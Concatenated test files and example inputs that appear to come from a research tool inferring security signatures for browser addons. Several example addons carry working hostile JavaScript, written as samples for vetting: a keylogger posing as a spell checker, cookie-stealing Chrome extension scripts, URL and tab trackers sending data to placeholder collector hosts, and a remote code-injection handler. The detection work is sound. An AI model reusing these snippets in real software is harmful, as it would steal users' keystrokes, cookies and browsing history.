@pytest.fixture(scope="module")
def figure1_pdg():
    program = lower(parse(FIGURE1), event_loop=False)
    result = analyze(program)
    return program, build_pdg(result)


def line_annotations(program, pdg, source_line, target_line):
    skip = (EntryStmt, ExitStmt)
    found = set()
    for (source, target), annotations in pdg.edges.items():
        if isinstance(program.stmts[source], skip):
            continue
        if isinstance(program.stmts[target], skip):
            continue
        if (
            program.stmts[source].line == source_line
            and program.stmts[target].line == target_line
        ):
            found.update(annotations)
    return found


class TestFigure2Edges:
    def test_line1_to_2_datastrong(self, figure1_pdg):
        program, pdg = figure1_pdg
        assert Annotation.DATA_STRONG in line_annotations(program, pdg, 1, 2)

    def test_line1_to_3_dataweak(self, figure1_pdg):
        program, pdg = figure1_pdg
        assert Annotation.DATA_WEAK in line_annotations(program, pdg, 1, 3)

    def test_line5_to_6_local_unamplified(self, figure1_pdg):
        program, pdg = figure1_pdg
        annotations = line_annotations(program, pdg, 5, 6)
        assert Annotation.LOCAL in annotations
        assert Annotation.LOCAL_AMP not in annotations

    def test_line9_to_11_local_amplified(self, figure1_pdg):
        program, pdg = figure1_pdg
        annotations = line_annotations(program, pdg, 9, 11)
        assert Annotation.LOCAL_AMP in annotations

    def test_line9_to_10_local_amplified(self, figure1_pdg):
        program, pdg = figure1_pdg
        assert Annotation.LOCAL_AMP in line_annotations(program, pdg, 9, 10)

    def test_line14_to_16_nonlocexp(self, figure1_pdg):
        program, pdg = figure1_pdg
        annotations = line_annotations(program, pdg, 14, 16)
        assert Annotation.NONLOC_EXP in annotations
        assert Annotation.LOCAL not in annotations

    def test_line20_to_21_nonlocimp(self, figure1_pdg):
        program, pdg = figure1_pdg
        annotations = line_annotations(program, pdg, 20, 21)
        assert Annotation.NONLOC_IMP in annotations

    def test_line19_to_20_local(self, figure1_pdg):
        program, pdg = figure1_pdg
        assert Annotation.LOCAL in line_annotations(program, pdg, 19, 20)

    def test_loop_counter_flow_datastrong(self, figure1_pdg):
        # count++ (line 11) flows to send(count) (line 12).
        program, pdg = figure1_pdg
        assert Annotation.DATA_STRONG in line_annotations(program, pdg, 11, 12)

    def test_initialization_flow_demoted_to_weak_by_loop(self, figure1_pdg):
        # var count = 0 (line 8) also reaches send(count) (line 12), but a
        # path through count++ exists, so the edge must be weak.
        program, pdg = figure1_pdg
        annotations = line_annotations(program, pdg, 8, 12)
        assert Annotation.DATA_WEAK in annotations
        assert Annotation.DATA_STRONG not in annotations

    def test_uncaught_exception_edges_omitted(self, figure1_pdg):
        # func() at line 4 may throw (it is undefined), but with no
        # handler the paper omits all resulting control edges: nothing
        # after line 4 is control-dependent on it.
        program, pdg = figure1_pdg
        for line in (5, 6, 7, 8, 9, 12):
            annotations = line_annotations(program, pdg, 4, line)
            assert not any(a.is_control for a in annotations), (line, annotations)

    def test_throw_to_catch_data_flow(self, figure1_pdg):
        # The thrown string at line 15 is bound by catch(x) at line 17.
        program, pdg = figure1_pdg
        assert Annotation.DATA_STRONG in line_annotations(program, pdg, 15, 17)

    def test_no_cross_try_exception_edges(self, figure1_pdg):
        # The first try's throw must not leak into the second try's catch.
        program, pdg = figure1_pdg
        assert not line_annotations(program, pdg, 15, 23)

    def test_dot_export_mentions_annotations(self, figure1_pdg):
        program, pdg = figure1_pdg
        dot = pdg.to_dot()
        assert "datastrong" in dot and "local^amp" in dot
        assert dot.startswith("digraph")
