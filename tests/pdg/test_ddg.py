"""Unit tests for DDG construction and annotations."""

import pytest

from repro.analysis import ReadWriteSets, analyze
from repro.ir import lower
from repro.js import parse
from repro.pdg import Annotation, build_icfg, build_pdg
from repro.pdg.ddg import build_ddg


def ddg_of(source, k=1):
    program = lower(parse(source), event_loop=False)
    result = analyze(program, k=k)
    icfg = build_icfg(result)
    ddg = build_ddg(result, icfg, ReadWriteSets(result))
    return program, ddg


def line_edge(program, ddg, source_line, target_line):
    annotations = set()
    for (source, target), annotation in ddg.edges.items():
        if (
            program.stmts[source].line == source_line
            and program.stmts[target].line == target_line
        ):
            annotations.add(annotation)
    return annotations


class TestBasicDataDependence:
    def test_def_use_chain_strong(self):
        program, ddg = ddg_of("var x = 1;\nvar y = x;")
        assert line_edge(program, ddg, 1, 2) == {Annotation.DATA_STRONG}

    def test_no_edge_without_flow(self):
        program, ddg = ddg_of("var x = 1;\nvar y = 2;")
        assert not line_edge(program, ddg, 1, 2)

    def test_killed_definition_has_no_edge(self):
        program, ddg = ddg_of("var x = 1;\nx = 2;\nvar y = x;")
        assert not line_edge(program, ddg, 1, 3)
        assert line_edge(program, ddg, 2, 3) == {Annotation.DATA_STRONG}

    def test_conditional_overwrite_demotes_to_weak(self):
        program, ddg = ddg_of(
            "var x = 1;\nif (Math.random()) x = 2;\nvar y = x;"
        )
        assert line_edge(program, ddg, 1, 3) == {Annotation.DATA_WEAK}
        assert line_edge(program, ddg, 2, 3) == {Annotation.DATA_STRONG}

    def test_property_flow_strong_on_singleton_exact(self):
        program, ddg = ddg_of("var o = {};\no.p = 'v';\nvar x = o.p;")
        assert Annotation.DATA_STRONG in line_edge(program, ddg, 2, 3)

    def test_property_flow_weak_on_unknown_name(self):
        program, ddg = ddg_of(
            "var o = {};\no.p = 'v';\nvar x = o[unknownKey()];"
        )
        assert Annotation.DATA_WEAK in line_edge(program, ddg, 2, 3)

    def test_property_flow_weak_on_summarized_object(self):
        program, ddg = ddg_of(
            "var o;\nwhile (Math.random()) o = {};\no.p = 'v';\nvar x = o.p;"
        )
        edge = line_edge(program, ddg, 3, 4)
        assert edge and Annotation.DATA_STRONG not in edge


class TestInterproceduralDataDependence:
    def test_argument_to_parameter_use(self):
        program, ddg = ddg_of(
            "function f(a) { send(a); }\nvar secret = taint();\nf(secret);"
        )
        # secret def (line 2) -> call (line 3) -> param use in f (line 1).
        assert line_edge(program, ddg, 2, 3)
        assert line_edge(program, ddg, 3, 1)

    def test_return_value_flow(self):
        program, ddg = ddg_of(
            "function get() { return 'v'; }\nvar x = get();"
        )
        # return (line 1) writes %ret which the call (line 2) reads.
        assert line_edge(program, ddg, 1, 2)

    def test_global_side_effect_through_call(self):
        program, ddg = ddg_of(
            "var g;\nfunction set() { g = 'v'; }\nset();\nvar x = g;"
        )
        assert line_edge(program, ddg, 2, 4)

    def test_heap_side_effect_through_call(self):
        program, ddg = ddg_of(
            "var box = {};\nfunction fill(b) { b.v = 's'; }\nfill(box);\nvar x = box.v;"
        )
        assert line_edge(program, ddg, 2, 4)


class TestThrowCatchDataDependence:
    def test_thrown_value_to_catch(self):
        program, ddg = ddg_of(
            "try {\nthrow 'payload';\n} catch (e) { use(e); }"
        )
        assert line_edge(program, ddg, 2, 3)

    def test_unrelated_trys_not_connected(self):
        program, ddg = ddg_of(
            "try { throw 'a'; } catch (e) {}\ntry { f(); } catch (e2) { use(e2); }"
        )
        assert not line_edge(program, ddg, 1, 2)


class TestLoopCarriedDependence:
    def test_loop_carried_update(self):
        program, ddg = ddg_of(
            "var s = '';\nwhile (Math.random()) {\ns = s + 'x';\n}\nsend(s);"
        )
        # The loop body reads its own previous iteration's write.
        assert line_edge(program, ddg, 3, 3)
        assert line_edge(program, ddg, 3, 5)

    def test_init_demoted_by_loop_write(self):
        program, ddg = ddg_of(
            "var s = 'init';\nwhile (Math.random()) {\ns = s + 'x';\n}\nsend(s);"
        )
        assert line_edge(program, ddg, 1, 5) == {Annotation.DATA_WEAK}
