"""Tests for the context-sensitive interprocedural CFG."""

import pytest

from repro.analysis import analyze
from repro.ir import lower
from repro.ir.nodes import CallStmt, EntryStmt, ExitStmt
from repro.js import parse
from repro.pdg import build_icfg, cyclic_statements


def icfg_of(source, k=1, event_loop=False):
    program = lower(parse(source), event_loop=event_loop)
    result = analyze(program, k=k)
    return program, result, build_icfg(result)


def find(program, stmt_type, predicate=lambda s: True):
    for sid in sorted(program.stmts):
        stmt = program.stmts[sid]
        if isinstance(stmt, stmt_type) and predicate(stmt):
            return stmt
    raise AssertionError(f"no {stmt_type.__name__}")


class TestStructure:
    def test_nodes_cover_reachable_statements(self):
        program, result, icfg = icfg_of("var x = 1; var y = x;")
        sids = {sid for (sid, _ctx) in icfg.nodes}
        assert program.main.entry.sid in sids
        assert program.main.exit.sid in sids

    def test_call_detours_through_callee(self):
        program, result, icfg = icfg_of(
            "function f() { return 1; } var x = f();"
        )
        call = find(program, CallStmt)
        entry = program.functions[1].entry
        call_nodes = [n for n in icfg.nodes if n[0] == call.sid]
        assert call_nodes
        for node in call_nodes:
            succs = icfg.successors(node)
            assert any(s[0] == entry.sid for s in succs)
            # Known single closure callee: no direct fallthrough.
            assert all(
                program.owner[s[0]] != 0 or s[0] == entry.sid for s in succs
            )

    def test_return_edges_to_call_successors(self):
        program, result, icfg = icfg_of(
            "function f() { return 1; } var x = f(); var y = x;"
        )
        exit_stmt = program.functions[1].exit
        exit_nodes = [n for n in icfg.nodes if n[0] == exit_stmt.sid]
        assert exit_nodes
        assert any(icfg.successors(n) for n in exit_nodes)

    def test_native_call_keeps_direct_edge(self):
        program, result, icfg = icfg_of("var r = Math.random(); var y = r;")
        call = find(
            program, CallStmt, lambda s: True
        )
        call_nodes = [n for n in icfg.nodes if n[0] == call.sid]
        for node in call_nodes:
            assert icfg.successors(node)

    def test_predecessors_inverse(self):
        program, result, icfg = icfg_of(
            "function f(a) { return a; } var x = f(1);"
        )
        for node in icfg.nodes:
            for succ in icfg.successors(node):
                assert node in icfg.predecessors(succ)


class TestCycles:
    def test_loop_is_cyclic(self):
        program, result, icfg = icfg_of("while (Math.random()) { f(); }")
        cyclic = cyclic_statements(icfg)
        assert cyclic

    def test_straight_line_acyclic(self):
        program, result, icfg = icfg_of("var x = 1; var y = x;")
        assert not cyclic_statements(icfg)

    def test_recursion_is_cyclic(self):
        program, result, icfg = icfg_of(
            "function f(n) { if (n > 0) f(n - 1); } f(3);"
        )
        cyclic = cyclic_statements(icfg)
        body_sids = {s.sid for s in program.functions[1].statements}
        assert cyclic & body_sids

    def test_event_handlers_are_cyclic(self):
        # The event loop's self-edge puts handler bodies on a cycle: the
        # source of the paper's handler amplification.
        source = """
        window.addEventListener("load", function (e) { var x = 1; }, false);
        """
        program = lower(parse(source), event_loop=True)
        from repro.browser import BrowserEnvironment

        result = analyze(program, BrowserEnvironment())
        icfg = build_icfg(result)
        cyclic = cyclic_statements(icfg)
        handler_fid = max(program.functions)
        handler_sids = {s.sid for s in program.functions[handler_fid].statements}
        assert cyclic & handler_sids

    def test_two_sequential_calls_no_spurious_cycle(self):
        # With k=1, two different call sites get distinct contexts, so the
        # classic unrealizable-path cycle through the callee must not
        # appear (it would wrongly amplify the callee's control edges).
        program, result, icfg = icfg_of(
            "function f(a) { return a; } var x = f(1); var y = f(2);",
            k=1,
        )
        cyclic = cyclic_statements(icfg)
        callee_sids = {s.sid for s in program.functions[1].statements}
        assert not (cyclic & callee_sids)

    def test_context_insensitive_has_spurious_cycle(self):
        # Documenting the flip side: with k=0 the unrealizable path is
        # real in the abstraction (both call sites share one context).
        program, result, icfg = icfg_of(
            "function f(a) { return a; } var x = f(1); var y = f(2);",
            k=0,
        )
        cyclic = cyclic_statements(icfg)
        callee_sids = {s.sid for s in program.functions[1].statements}
        assert cyclic & callee_sids
