"""Tests for the PDG container type itself."""

import pytest

from repro.ir.nodes import ProgramIR
from repro.pdg import Annotation, PDG


def tiny_pdg():
    from repro.analysis import analyze
    from repro.ir import lower
    from repro.js import parse
    from repro.pdg import build_pdg

    program = lower(
        parse("var a = 1;\nvar b = a;\nif (mystery())\nsend(b);"),
        event_loop=False,
    )
    return program, build_pdg(analyze(program))


class TestContainer:
    def test_add_edge_accumulates_annotations(self):
        pdg = PDG(program=ProgramIR({}, {}, {}, set()))
        pdg.add_edge(1, 2, Annotation.DATA_WEAK)
        pdg.add_edge(1, 2, Annotation.LOCAL)
        assert pdg.annotations(1, 2) == {Annotation.DATA_WEAK, Annotation.LOCAL}

    def test_annotations_missing_edge_empty(self):
        pdg = PDG(program=ProgramIR({}, {}, {}, set()))
        assert pdg.annotations(9, 10) == set()

    def test_successors(self):
        pdg = PDG(program=ProgramIR({}, {}, {}, set()))
        pdg.add_edge(1, 2, Annotation.LOCAL)
        pdg.add_edge(1, 3, Annotation.DATA_STRONG)
        targets = {target for target, _ in pdg.successors(1)}
        assert targets == {2, 3}

    def test_reachable_from_respects_filter(self):
        pdg = PDG(program=ProgramIR({}, {}, {}, set()))
        pdg.add_edge(1, 2, Annotation.DATA_STRONG)
        pdg.add_edge(2, 3, Annotation.NONLOC_IMP)
        data_only = frozenset({Annotation.DATA_STRONG})
        assert pdg.reachable_from({1}, data_only) == {1, 2}
        assert pdg.reachable_from({1}, frozenset(Annotation)) == {1, 2, 3}

    def test_line_edges_drops_synthetics_and_self_loops(self):
        program, pdg = tiny_pdg()
        edges = pdg.line_edges()
        assert all(0 not in pair for pair in edges)
        assert all(a != b for (a, b) in edges)

    def test_line_annotations_lookup(self):
        program, pdg = tiny_pdg()
        assert Annotation.DATA_STRONG in pdg.line_annotations(1, 2)

    def test_dot_contains_nodes_and_edges(self):
        program, pdg = tiny_pdg()
        dot = pdg.to_dot()
        assert dot.startswith("digraph pdg {")
        assert "->" in dot and dot.rstrip().endswith("}")

    def test_dot_include_isolated_lists_all_statements(self):
        program, pdg = tiny_pdg()
        full = pdg.to_dot(include_isolated=True)
        trimmed = pdg.to_dot(include_isolated=False)
        assert full.count("[label=") >= trimmed.count("[label=")


class TestAdjacencyIndex:
    """The lazily cached successor/predecessor indexes: one build is
    shared by every consumer, and mutation invalidates them."""

    def test_successor_index_is_cached(self):
        pdg = PDG(program=ProgramIR({}, {}, {}, set()))
        pdg.add_edge(1, 2, Annotation.LOCAL)
        assert pdg.successor_index() is pdg.successor_index()
        assert pdg.predecessor_index() is pdg.predecessor_index()

    def test_add_edge_invalidates_index(self):
        pdg = PDG(program=ProgramIR({}, {}, {}, set()))
        pdg.add_edge(1, 2, Annotation.LOCAL)
        first = pdg.successor_index()
        pdg.add_edge(2, 3, Annotation.DATA_STRONG)
        second = pdg.successor_index()
        assert second is not first
        assert {target for target, _ in pdg.successors(2)} == {3}

    def test_index_matches_edges(self):
        program, pdg = tiny_pdg()
        index = pdg.successor_index()
        flattened = {
            (source, target)
            for source, targets in index.items()
            for target, _ in targets
        }
        assert flattened == set(pdg.edges)
        backward = {
            (source, target)
            for target, sources in pdg.predecessor_index().items()
            for source, _ in sources
        }
        assert backward == set(pdg.edges)

    def test_flow_types_share_one_adjacency_build(self):
        """``flow_types_from`` must reuse the PDG's cached index — per-
        source fixpoints of one inference never rebuild adjacency."""
        from repro.signatures.inference import flow_types_from

        program, pdg = tiny_pdg()
        before = pdg.successor_index()
        sids = sorted(sid for (sid, _target) in pdg.edges)
        flow_types_from(pdg, {sids[0]})
        flow_types_from(pdg, {sids[-1]})
        assert pdg.successor_index() is before
