"""Tests for the PDG container type itself."""

import pytest

from repro.ir.nodes import ProgramIR
from repro.pdg import Annotation, PDG


def tiny_pdg():
    from repro.analysis import analyze
    from repro.ir import lower
    from repro.js import parse
    from repro.pdg import build_pdg

    program = lower(
        parse("var a = 1;\nvar b = a;\nif (mystery())\nsend(b);"),
        event_loop=False,
    )
    return program, build_pdg(analyze(program))


class TestContainer:
    def test_add_edge_accumulates_annotations(self):
        pdg = PDG(program=ProgramIR({}, {}, {}, set()))
        pdg.add_edge(1, 2, Annotation.DATA_WEAK)
        pdg.add_edge(1, 2, Annotation.LOCAL)
        assert pdg.annotations(1, 2) == {Annotation.DATA_WEAK, Annotation.LOCAL}

    def test_annotations_missing_edge_empty(self):
        pdg = PDG(program=ProgramIR({}, {}, {}, set()))
        assert pdg.annotations(9, 10) == set()

    def test_successors(self):
        pdg = PDG(program=ProgramIR({}, {}, {}, set()))
        pdg.add_edge(1, 2, Annotation.LOCAL)
        pdg.add_edge(1, 3, Annotation.DATA_STRONG)
        targets = {target for target, _ in pdg.successors(1)}
        assert targets == {2, 3}

    def test_reachable_from_respects_filter(self):
        pdg = PDG(program=ProgramIR({}, {}, {}, set()))
        pdg.add_edge(1, 2, Annotation.DATA_STRONG)
        pdg.add_edge(2, 3, Annotation.NONLOC_IMP)
        data_only = frozenset({Annotation.DATA_STRONG})
        assert pdg.reachable_from({1}, data_only) == {1, 2}
        assert pdg.reachable_from({1}, frozenset(Annotation)) == {1, 2, 3}

    def test_line_edges_drops_synthetics_and_self_loops(self):
        program, pdg = tiny_pdg()
        edges = pdg.line_edges()
        assert all(0 not in pair for pair in edges)
        assert all(a != b for (a, b) in edges)

    def test_line_annotations_lookup(self):
        program, pdg = tiny_pdg()
        assert Annotation.DATA_STRONG in pdg.line_annotations(1, 2)

    def test_dot_contains_nodes_and_edges(self):
        program, pdg = tiny_pdg()
        dot = pdg.to_dot()
        assert dot.startswith("digraph pdg {")
        assert "->" in dot and dot.rstrip().endswith("}")

    def test_dot_include_isolated_lists_all_statements(self):
        program, pdg = tiny_pdg()
        full = pdg.to_dot(include_isolated=True)
        trimmed = pdg.to_dot(include_isolated=False)
        assert full.count("[label=") >= trimmed.count("[label=")
