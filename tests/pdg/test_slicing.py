"""Tests for PDG-based program slicing."""

import pytest

from repro.analysis import analyze
from repro.ir import lower
from repro.js import parse
from repro.pdg import build_pdg
from repro.pdg.slicing import (
    DATA_ONLY,
    backward_slice,
    backward_slice_of_line,
    forward_slice_of_line,
    statements_on_line,
)


def pdg_of(source):
    program = lower(parse(source), event_loop=False)
    result = analyze(program)
    return build_pdg(result)


SOURCE = """var a = 1;
var b = a + 1;
var unrelated = 99;
var c = b * 2;
send(c);
send(unrelated);"""


class TestBackwardSlice:
    def test_slice_contains_dependency_chain(self):
        pdg = pdg_of(SOURCE)
        lines = backward_slice_of_line(pdg, 5)
        assert {1, 2, 4, 5} <= set(lines)

    def test_slice_excludes_unrelated(self):
        pdg = pdg_of(SOURCE)
        lines = backward_slice_of_line(pdg, 5)
        assert 3 not in lines
        assert 6 not in lines

    def test_unrelated_statement_slice_is_small(self):
        pdg = pdg_of(SOURCE)
        lines = backward_slice_of_line(pdg, 6)
        assert 3 in lines
        assert 1 not in lines and 2 not in lines

    def test_criterion_included(self):
        pdg = pdg_of(SOURCE)
        criteria = statements_on_line(pdg, 5)
        sliced = backward_slice(pdg, criteria)
        assert criteria <= sliced

    def test_control_dependence_in_slice(self):
        pdg = pdg_of(
            "var flag = unknownFn();\nif (flag)\nsend(1);"
        )
        lines = backward_slice_of_line(pdg, 3)
        assert 2 in lines  # the guarding branch
        assert 1 in lines  # what the branch reads

    def test_data_only_slice_ignores_control(self):
        pdg = pdg_of(
            "var x = mystery();\nif (x)\nsend('fixed');"
        )
        full = backward_slice_of_line(pdg, 3)
        data = backward_slice_of_line(pdg, 3, allowed=DATA_ONLY)
        assert 2 in full
        assert 2 not in data

    def test_interprocedural_slice(self):
        pdg = pdg_of(
            "function wrap(v) { return v; }\nvar secret = mystery();\nvar out = wrap(secret);\nsend(out);"
        )
        lines = backward_slice_of_line(pdg, 4)
        assert {1, 2, 3} <= set(lines)


class TestForwardSlice:
    def test_forward_reaches_uses(self):
        pdg = pdg_of(SOURCE)
        lines = forward_slice_of_line(pdg, 1)
        assert {2, 4, 5} <= set(lines)
        assert 3 not in lines

    def test_forward_from_sink_is_small(self):
        pdg = pdg_of(SOURCE)
        lines = forward_slice_of_line(pdg, 6)
        assert set(lines) <= {6}

    def test_forward_through_control(self):
        pdg = pdg_of("var g = mystery();\nif (g) {\nsend(1);\n}")
        lines = forward_slice_of_line(pdg, 1)
        assert 3 in lines
