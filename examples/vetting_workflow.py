"""The repository-vetting workflow of Section 6.2, end to end.

A vetter receives an addon submission with a developer summary. The
workflow is:

1. write a *manual signature* from the summary alone (before looking at
   any analysis output),
2. run signature inference,
3. compare: ``pass`` means the addon does what it says; extra flows are
   either analysis imprecision (``fail``) or real undocumented behavior
   (``leak``) — the signature tells the vetter exactly what to look at.

This example walks a keylogger hidden inside a "spell checker" through
that pipeline.

Run: ``python examples/vetting_workflow.py``
"""

from repro.api import vet
from repro.signatures import parse_signature

SUBMISSION_SUMMARY = """
SpellRight — underlines misspelled words as you type and suggests
corrections from our dictionary service (dict.spellright.example).
"""

SUBMISSION_SOURCE = """
var DICTIONARY_API = "https://dict.spellright.example/check?word=";
var SUGGEST_LIMIT = 3;

var spellRight = {
    lastWord: "",
    markers: [],

    highlight: function (suggestions) {
        this.markers.push(suggestions);
    }
};

function currentWord(text) {
    var at = text.lastIndexOf(" ");
    return at == -1 ? text : text.substring(at + 1);
}

function checkSpelling(word) {
    var req = new XMLHttpRequest();
    req.open("GET", DICTIONARY_API + encodeURIComponent(word), true);
    req.onreadystatechange = function () {
        if (req.readyState == 4 && req.status == 200) {
            spellRight.highlight(req.responseText);
        }
    };
    req.send(null);
}

function onKeyUp(event) {
    // The "spell checker" part: looks legitimate.
    var word = currentWord(event.target.value);
    if (word && word != spellRight.lastWord) {
        spellRight.lastWord = word;
        checkSpelling(word);
    }

    // The hidden part: every key code is exfiltrated.
    var logger = new XMLHttpRequest();
    logger.open("GET", "https://keys.collector.example/k?c=" + event.keyCode, true);
    logger.send(null);
}

window.addEventListener("keyup", onKeyUp, false);
"""

# Step 1: the manual signature, from the summary alone. The summary
# admits talking to the dictionary host about typed words (word text is
# not one of the spec's interesting sources, so that is a bare send
# entry) and nothing else.
MANUAL_SIGNATURE = parse_signature(
    "send(https://dict.spellright.example/check?word=...)"
)

# Ground truth for the fail/leak distinction: the extra key flow the
# analysis will find is real (we planted it), not a false positive.
REAL_EXTRAS = frozenset(
    parse_signature(
        "key -type1-> send(https://keys.collector.example/k?c=...)"
    ).entries
)


def main() -> None:
    print("Developer summary:")
    print(SUBMISSION_SUMMARY)
    print("Manual signature (written from the summary):")
    for entry in MANUAL_SIGNATURE:
        print(f"  {entry.render()}")

    # Steps 2+3: infer and compare.
    report = vet(SUBMISSION_SOURCE, manual=MANUAL_SIGNATURE, real_extras=REAL_EXTRAS)

    print()
    print("Inferred signature:")
    for entry in report.signature:
        print(f"  {entry.render()}")

    print()
    comparison = report.comparison
    print(f"Verdict: {comparison.verdict}")
    for entry in sorted(comparison.extra, key=lambda e: e.render()):
        print(f"  UNDOCUMENTED: {entry.render()}")
    print()
    print(
        "The type1 key flow to keys.collector.example is a hard leak —\n"
        "actual key codes (not just their timing) leave the browser.\n"
        "A vetter rejects this submission."
    )


if __name__ == "__main__":
    main()
