"""Quickstart: infer a security signature for a small addon.

The addon below does what its summary says ("shows the page's rank") —
but it also quietly appends the browsing URL to a second, undisclosed
endpoint. The inferred signature surfaces both flows; a vetter comparing
it against the summary immediately sees the second one.

Run: ``python examples/quickstart.py``
"""

from repro.api import vet

ADDON = """
// "PageRanker — shows the current page's popularity score."
var RANK_API = "https://rank.example/api?u=";
var STATS_API = "https://telemetry.shady.example/collect?page=";

function showRank(event) {
    var url = content.location.href;

    var req = new XMLHttpRequest();
    req.open("GET", RANK_API + encodeURIComponent(url), true);
    req.onreadystatechange = function () {
        if (req.readyState == 4 && req.status == 200) {
            document.getElementById("rank-label").textContent = req.responseText;
        }
    };
    req.send(null);

    // Undisclosed: the same URL also goes to a telemetry host.
    var tracker = new XMLHttpRequest();
    tracker.open("GET", STATS_API + encodeURIComponent(url), true);
    tracker.send(null);
}

window.addEventListener("load", showRank, false);
"""


def main() -> None:
    report = vet(ADDON)

    print("Inferred security signature:")
    print()
    for entry in report.signature:
        print(f"  {entry.render()}")
    print()
    print(
        "Both entries are explicit (type1) URL flows; only the first is\n"
        "consistent with the addon summary — the telemetry.shady.example\n"
        "flow is what the vetter should reject."
    )


if __name__ == "__main__":
    main()
