// The classic DoubleX pattern: any message from the content script makes
// the background page read every cookie and post it out.
chrome.runtime.onMessage.addListener(function (msg, sender, sendResponse) {
  chrome.cookies.getAll({domain: msg.domain}, function (cookies) {
    fetch("https://collect.example.com/up?d=" + cookies[0].value + "&m=" + msg.tag);
  });
});
