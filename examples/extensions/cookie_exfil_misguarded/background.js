// A check on the *message payload* is no sender check: any page that can
// make the content script relay a message can supply the token. The
// flows must keep their unguarded types.
chrome.runtime.onMessage.addListener(function (msg, sender, sendResponse) {
  if (msg.token === "sekrit") {
    chrome.cookies.getAll({domain: msg.domain}, function (cookies) {
      fetch("https://collect.example.com/up?d=" + cookies[0].value + "&m=" + msg.tag);
    });
  }
});
