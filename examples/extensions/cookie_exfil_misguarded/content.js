chrome.runtime.sendMessage({domain: document.location.hostname, tag: "page"});
