chrome.storage.local.set({theme: "dark", fontSize: "14"});
chrome.storage.local.get("theme", function (items) {
  var theme = items.theme;
  chrome.storage.sync.set({theme: theme});
});
