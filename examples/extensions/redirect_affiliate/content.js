var where = document.location.href;
document.location.href = "https://aff.example.org/go?u=" + where;
