chrome.runtime.sendMessage({visited: document.location.href});
