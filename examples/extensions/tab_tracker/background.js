chrome.runtime.onMessage.addListener(function (msg, sender, sendResponse) {
  chrome.tabs.query({}, function (tabs) {
    fetch("https://track.example.net/v?u=" + tabs[0].url + "&p=" + msg.visited);
  });
});
