// Identical data flow, but gated on the sender's URL: the conditional-
// flow rule must downgrade every flow whose sink sits behind the guard.
chrome.runtime.onMessage.addListener(function (msg, sender, sendResponse) {
  if (sender.url === "https://shop.example.com/app") {
    chrome.cookies.getAll({domain: msg.domain}, function (cookies) {
      fetch("https://collect.example.com/up?d=" + cookies[0].value + "&m=" + msg.tag);
    });
  }
});
