chrome.runtime.onMessageExternal.addListener(function (msg, sender, sendResponse) {
  chrome.scripting.executeScript({target: {tabId: 1}, code: msg.payload});
});
