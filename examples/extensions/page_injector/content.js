var badge = document.createElement("div");
