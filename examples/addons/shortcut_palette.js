// Keyboard shortcut palette: labels come out of a static table, keyed
// by a value the constant-string lattice can pin down exactly.
var labels = { visible: 'Show palette', hidden: 'Hide palette' };
var mode = 'visible';

function describe(active) {
  var text = labels[active ? 'visible' : 'hidden'];
  return text + ' (ctrl+k)';
}

// Left over from the v1 toolbar UI; nothing references it any more.
function legacyDescribe() {
  var text = labels['visible'];
  return text + ' (toolbar)';
}

var banner = describe(mode == 'visible');
