// Ancient code: with-scoping the analyzer rejects outright. Recovery
// mode skips the statement (an R001 finding with the same span format
// as the JS004 token-level hit) and vets the rest — degraded, so the
// prefilter refuses the fast lane.
var prefs = { sound: true, volume: 7 };
with (prefs) {
  volume = volume + 1;
}
var done = true;
