// Loads a user-supplied configuration snippet the old-school way:
// string-to-code execution everywhere. Every dynamic-code lint rule
// fires, and the prefilter must never skip an addon like this.
var config = "({ refresh: 300 })";

function loadConfig(snippet) {
  return eval(snippet);
}

var makeGreeting = new Function("return 'hello';");
var settings = loadConfig(config);
setTimeout("refreshBadge()", 1000);
