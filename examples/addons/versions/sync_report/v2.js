// Reports the visited page to the sync endpoint.
//
// v2: the cookie exfiltration is gone — the update only reports the
// page address. The cookie -> send entry disappears from the
// signature: removed-flow, and nothing widened, so the previous
// approval still covers everything that remains.
var page = content.location.href;
var sink = new XMLHttpRequest();
sink.open("POST", "http://sync.example.org/report?page=" + page);
sink.send(page);
