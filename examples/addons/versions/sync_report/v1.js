// Reports the visited page *and* the session cookie to the sync
// endpoint — the cookie flow is the kind of thing a vetter flags.
var page = content.location.href;
var session = content.document.cookie;
var sink = new XMLHttpRequest();
sink.open("POST", "http://sync.example.org/report?page=" + page);
sink.send(session);
