// Dashboard: per-site widgets behind one stats API. Every widget reads
// the page URL (a browser source), asks the stats service for its
// slice (a network sink), and renders the response into its toolbar
// badge.
//
// v2: comment churn plus a retired-widget ledger kept for reference.
// The ledger is an isolated, call-free island -- the change-surface
// certificate proves the signature unchanged, and (the addon being far
// above the fast lane's cost gate) the batch engine serves the
// approved signature without re-running the interpreter.
var STATS_BASE = "https://stats.example/api/widget";
var REFRESH_LIMIT = 8;
var refreshCount = 0;

var retiredWidgets = { sparkline_retired: "2024-11", heatmap_retired: "2025-03" };

function underRefreshLimit() {
  var allowed = refreshCount < REFRESH_LIMIT;
  if (allowed) {
    refreshCount = refreshCount + 1;
  }
  return allowed;
}

function widget_clock(e) {
  var url = content.location.href;
  var marker = url.indexOf("clock");
  if (marker == -1) {
    return;
  }
  if (!underRefreshLimit()) {
    return;
  }
  var req = new XMLHttpRequest();
  req.open("GET", STATS_BASE + "/clock?u=" + encodeURIComponent(url), true);
  req.onreadystatechange = function () {
    if (req.readyState == 4 && req.status == 200) {
      var badge = document.getElementById("badge-clock");
      if (badge) {
        badge.textContent = req.responseText;
      }
    }
  };
  req.send(null);
}
window.addEventListener("load", widget_clock, false);

function widget_weather(e) {
  var url = content.location.href;
  var marker = url.indexOf("weather");
  if (marker == -1) {
    return;
  }
  if (!underRefreshLimit()) {
    return;
  }
  var req = new XMLHttpRequest();
  req.open("GET", STATS_BASE + "/weather?u=" + encodeURIComponent(url), true);
  req.onreadystatechange = function () {
    if (req.readyState == 4 && req.status == 200) {
      var badge = document.getElementById("badge-weather");
      if (badge) {
        badge.textContent = req.responseText;
      }
    }
  };
  req.send(null);
}
window.addEventListener("load", widget_weather, false);

function widget_stocks(e) {
  var url = content.location.href;
  var marker = url.indexOf("stocks");
  if (marker == -1) {
    return;
  }
  if (!underRefreshLimit()) {
    return;
  }
  var req = new XMLHttpRequest();
  req.open("GET", STATS_BASE + "/stocks?u=" + encodeURIComponent(url), true);
  req.onreadystatechange = function () {
    if (req.readyState == 4 && req.status == 200) {
      var badge = document.getElementById("badge-stocks");
      if (badge) {
        badge.textContent = req.responseText;
      }
    }
  };
  req.send(null);
}
window.addEventListener("load", widget_stocks, false);

function widget_mail(e) {
  var url = content.location.href;
  var marker = url.indexOf("mail");
  if (marker == -1) {
    return;
  }
  if (!underRefreshLimit()) {
    return;
  }
  var req = new XMLHttpRequest();
